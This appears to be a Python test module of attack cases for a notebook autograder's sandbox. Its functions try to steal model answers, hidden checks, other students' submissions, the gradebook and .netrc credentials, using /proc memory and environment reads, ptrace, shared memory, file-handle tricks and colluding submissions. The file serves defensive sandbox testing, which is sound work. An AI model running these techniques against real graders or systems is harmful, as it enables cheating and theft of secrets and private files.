"""Attacks on what is to be known: model answers, hidden checks, other submissions, the gradebook, and the grader's own secrets.

Each function here is hostile code: its source runs in the student's kernel, so that it imports what it uses by itself.
"""

# Hostile code takes the shortest way.
# ruff: noqa: PTH108, PTH113, PTH116, PTH118, PTH123, PTH207, PTH208, RET503, SIM115
from __future__ import annotations

from attacks.declare import EVERYWHERE, SANDBOXED, attack, handed_in

FULL = ("full",)


# --------------------------------------------------------------------------------- answers and checks
@attack("theft", "imports the model answers, past the guard", stopped_at=SANDBOXED, together=True)
def imports_the_answers(aim):
    import inspect
    import sys

    finders, path = list(sys.meta_path), list(sys.path)
    try:
        sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "Guard"]
        sys.path.insert(0, aim.checkout)
        import reference.layers

        return inspect.getsource(reference.layers)
    finally:
        sys.meta_path[:], sys.path[:] = finders, path


@attack("theft", "opens the file of the model answers", stopped_at=SANDBOXED, together=True)
def opens_the_answers(aim):
    return open(aim.answers).read()


@attack("theft", "opens the file of the hidden checks", stopped_at=SANDBOXED, together=True)
def opens_the_checks(aim):
    return open(aim.checks).read()


@attack("theft", "looks for answers in the modules and objects of its own process", fools="output", together=True)
def searches_its_own_objects(aim):
    import gc
    import re
    import sys

    ours = [name for name in sys.modules if name.split(".")[0] in ("reference", "judging")]
    texts = [o for o in gc.get_objects() if isinstance(o, dict)]
    found = {
        m.group()
        for d in texts
        for v in list(d.values())
        if type(v) is str
        for m in [re.match("canary-[a-z]+-[0-9a-f]{32}", v)]
        if m
    }
    return f"{ours} {found}"


@attack("theft", "searches all of its own memory for what the process held before it", fools="output", together=True)
def searches_its_own_memory(aim):
    import ctypes
    import re

    found = set()
    libc = ctypes.CDLL(None)
    block = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for i in range(10_000):
        if not block or block[i] is None:
            break
        found.update(re.findall(rb"canary-[a-z]+-[0-9a-f]{32}", block[i]))
    try:
        regions = open("/proc/self/maps").read().splitlines()
    except OSError:
        regions = []
    with_memory = [line for line in regions if "rw-p" in line]
    for line in with_memory:
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        if high - low < 1 << 26:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(low)
                found.update(re.findall(rb"canary-[a-z]+-[0-9a-f]{32}", memory.read(high - low)))
    return sorted(found)


# ------------------------------------------------------------------------------------- files
@attack("theft", "reads a file in the grader's temporary folder", stopped_at=SANDBOXED, together=True)
def reads_a_secret_file(aim):
    return open(aim.temp + "/secret.txt").read()


@attack("theft", "walks the grader's temporary folder", stopped_at=SANDBOXED, together=True)
def walks_the_temporary_folder(aim):
    import os

    names = [os.path.join(base, name) for base, _, names in os.walk(aim.temp) for name in names]
    return [open(name, errors="replace").read() for name in names if os.path.isfile(name)]


@attack("theft", "reads a neighbour's submission in the class's folder", stopped_at=SANDBOXED, together=True)
def reads_a_neighbours_notebook(aim):
    return open(aim.desk + "/bob.ipynb").read()


@attack("theft", "lists who handed in", stopped_at=SANDBOXED, together=True)
def lists_the_class(aim):
    import os

    return os.listdir(aim.desk)


@attack("theft", "measures a neighbour's file without opening it", stopped_at=FULL, together=True)
def measures_a_file(aim):
    import os

    return f"reached: a file of {os.stat(aim.desk + '/bob.ipynb').st_size} bytes"


@attack("theft", "reads the gradebook", stopped_at=SANDBOXED, together=True)
def reads_the_gradebook(aim):
    return open(aim.desk + "/gradebook.sqlite", "rb").read()


@attack("theft", "reads the passwords in the grader's home", stopped_at=SANDBOXED, together=True)
def reads_the_home(aim):
    return open(aim.desk + "/.netrc").read()


@attack("theft", "reads the list of the machine's users", stopped_at=SANDBOXED, together=True)
def reads_the_users(aim):
    return open("/etc/passwd").read()


@attack("theft", "links a neighbour's file into its own folder, then reads it", stopped_at=SANDBOXED, together=True)
def links_a_file(aim):
    import os

    for link in (os.link, os.symlink):
        try:
            link(aim.desk + "/bob.ipynb", f"mine-{link.__name__}")
        except OSError:
            continue
    return [open(name).read() for name in os.listdir(".") if name.startswith("mine-")]


@attack(
    "theft",
    "opens a neighbour's file by its handle, past the paths",
    stopped_at=SANDBOXED,
    without_root=EVERYWHERE,
    together=True,
)
def opens_by_handle(aim):
    import ctypes
    import os
    import platform
    import struct

    of, by = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if libc.syscall(of, -100, (aim.desk + "/bob.ipynb").encode(), handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    top = os.open("/", os.O_RDONLY)
    fd = libc.syscall(by, top, handle, os.O_RDONLY)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    try:
        return os.read(fd, 1000)
    finally:
        os.close(fd)
        os.close(top)


# --------------------------------------------------------------------- environments and processes
@attack("theft", "reads its own environment", fools="output", together=True)
def reads_its_environment(aim):
    import os

    return dict(os.environ)


@attack("theft", "reads the environments of other processes", stopped_at=SANDBOXED, together=True)
def reads_other_environments(aim):
    return [open(f"/proc/{pid}/environ", "rb").read() for pid in (aim.driver, aim.victim)]


@attack("theft", "reads the arguments of other processes", stopped_at=SANDBOXED, together=True)
def reads_other_arguments(aim):
    import glob

    return [open(name, "rb").read() for name in glob.glob("/proc/[0-9]*/cmdline") if str(aim.victim) in name]


@attack("theft", "reads files through another process's descriptors", stopped_at=SANDBOXED, together=True)
def reads_other_descriptors(aim):
    return open(f"/proc/{aim.driver}/fd/{aim.fd}").read()


@attack("theft", "reads files through another process's root", stopped_at=SANDBOXED, together=True)
def reads_through_another_root(aim):
    return open(f"/proc/{aim.driver}/root{aim.temp}/secret.txt").read()


@attack("theft", "reads every descriptor that it may have inherited", fools="output", together=True)
def reads_inherited_descriptors(aim):
    import os

    found = []
    for fd in range(1024):
        try:
            found.append(os.pread(fd, 1000, 0))
        except OSError:
            continue
    return found


@attack("theft", "searches the grader's memory", stopped_at=SANDBOXED, together=True)
def searches_the_graders_memory(aim):
    import re

    with open(f"/proc/{aim.driver}/maps") as lines, open(f"/proc/{aim.driver}/mem", "rb", 0) as memory:
        for line in lines:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw-p" in line and high - low < 1 << 26:
                memory.seek(low)
                found = re.search(rb"canary-[a-z]+-[0-9a-f]{32}", memory.read(high - low))
                if found:
                    return found.group()


@attack("theft", "reads another process's memory by system call", stopped_at=SANDBOXED, together=True)
def reads_memory_by_call(aim):
    import ctypes

    class Piece(ctypes.Structure):
        _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    mine = ctypes.create_string_buffer(aim.length)
    here, there = Piece(ctypes.addressof(mine), aim.length), Piece(aim.address, aim.length)
    if libc.process_vm_readv(aim.victim, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    return mine.value


@attack("theft", "traces another process and reads its memory word by word", stopped_at=SANDBOXED)
def traces_a_process(aim):
    import ctypes
    import os
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, aim.victim, None, None) < 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(aim.victim, 0)
    words = [libc.ptrace(2, aim.victim, aim.address + at, None) for at in range(0, aim.length, 8)]  # PTRACE_PEEKDATA
    libc.ptrace(17, aim.victim, None, None)  # PTRACE_DETACH
    return b"".join(struct.pack("q", word) for word in words)


@attack("theft", "reads a file in shared memory", stopped_at=SANDBOXED, together=True)
def reads_a_shared_file(aim):
    return open(aim.shm).read()


@attack("theft", "attaches a segment of shared memory", stopped_at=SANDBOXED, together=True)
def attaches_a_segment(aim):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(aim.segment, None, 0o10000)
    if address in (None, 2**64 - 1):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(address)


# ------------------------------------------------------------------------------ other submissions
@attack("theft", "reads the files of the submission that is graded next to it", stopped_at=SANDBOXED, neighbour=True)
def reads_the_submission_beside(aim):
    import glob

    return [open(name).read() for name in glob.glob(aim.temp + "/**/mine.txt", recursive=True)]


KEPT = """
import builtins, os, sys
builtins.left = sys.modules["left"] = AIM.message
for folder in (AIM.open, "/dev/shm", "/tmp", os.environ.get("HOME", "."), "."):
    try:
        open(f"{folder}/{AIM.mark}", "w").write(AIM.message)
    except OSError:
        continue
"""


@attack("theft", "finds what an accomplice's submission left for it", stopped_at=SANDBOXED, earlier=(KEPT,))
def finds_what_was_left(aim):
    import builtins
    import os
    import sys

    found = [getattr(builtins, "left", ""), sys.modules.get("left", "")]
    for folder in (aim.open, "/dev/shm", "/tmp", os.environ.get("HOME", "."), "."):
        try:
            found.append(open(f"{folder}/{aim.mark}").read())
            os.unlink(f"{folder}/{aim.mark}")
        except OSError:
            continue
    return found


WRITTEN = """
import os
for fd in range(3): os.write(fd, AIM.message.encode() + b"\\n") if fd else None
"""


@attack(
    "theft",
    "finds what an accomplice's submission wrote to descriptors that both have",
    earlier=(WRITTEN,),
    fools="claimed",
)
def reads_shared_descriptors(aim):
    import os
    import re

    for fd in range(3):
        try:
            size = os.fstat(fd).st_size
            found = re.search(rb"canary-[a-z]+-[0-9a-f]{32}", os.pread(fd, 1000, max(0, size - 500)))
        except OSError:
            continue
        if found:
            return f"reached: {found.group()}"
    return "held: nothing was left there"


def linked(folder, aim):
    """A folder with links to what its owner may not read."""
    (folder / "secret.txt").symlink_to(f"{aim.temp}/secret.txt")
    (folder / "class").symlink_to(aim.desk)
    return folder


handed_in(
    "hands_in_links", "theft", "hands in a folder with links to the grader's files",
    "import glob\nfor name in glob.glob('**/*', recursive=True) + glob.glob('class/.*'):\n"
    "    try: print(open(name).read()[:1000])\n    except OSError: pass\n",
    pack=linked, fools="reading",
)  # fmt: skip
